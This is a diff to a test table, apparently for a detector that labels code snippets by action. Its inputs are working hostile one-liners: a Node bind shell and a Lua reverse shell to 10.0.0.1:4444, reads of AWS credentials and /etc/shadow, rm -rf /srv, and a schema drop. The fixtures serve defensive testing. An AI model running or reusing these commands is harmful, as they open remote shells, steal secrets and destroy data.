@@ -464,8 +464,11 @@ async def main():
 	{"node", `sh = require("child_process").spawn("/bin/sh"); require("net").createServer(function (c) { c.pipe(sh.stdin); sh.stdout.pipe(c); }).listen(4444)`,
 		[]string{"download :4444 | sh", "sh: /bin/sh"}},
 	{"lua", `local s=require("socket"); local t=assert(s.tcp()); t:connect("10.0.0.1",4444); while true do local r=t:receive(); local f=io.popen(r) end`,
-		[]string{"unknown", "download 10.0.0.1:4444 | sh"}},
+		[]string{"unknown", "download 10.0.0.1:4444 | sh", "unknown"}}, // io.popen(r): code run unread
 	{"lua", `print("hello")`, []string{"unknown"}},
+	// a language not parsed: its literal commands are still read
+	{"r", `system("rm -rf /srv")`, []string{"unknown", "run rm -rf /srv", "delete -r /srv"}},
+	{"r", `system2(cmd)`, []string{"unknown", "unknown"}},
 	{"ruby", `puts File.read(File.expand_path("~/.aws/credentials"))`, []string{"read /home/a/.aws/credentials"}},
 	{"node", `const path = require("path"); require("fs").readFileSync(path.join("/etc", "shadow"))`, []string{"read /etc/shadow"}},
 	{"python", `import psycopg2; psycopg2.connect("host=db").cursor().execute("DROP SCHEMA public CASCADE")`,
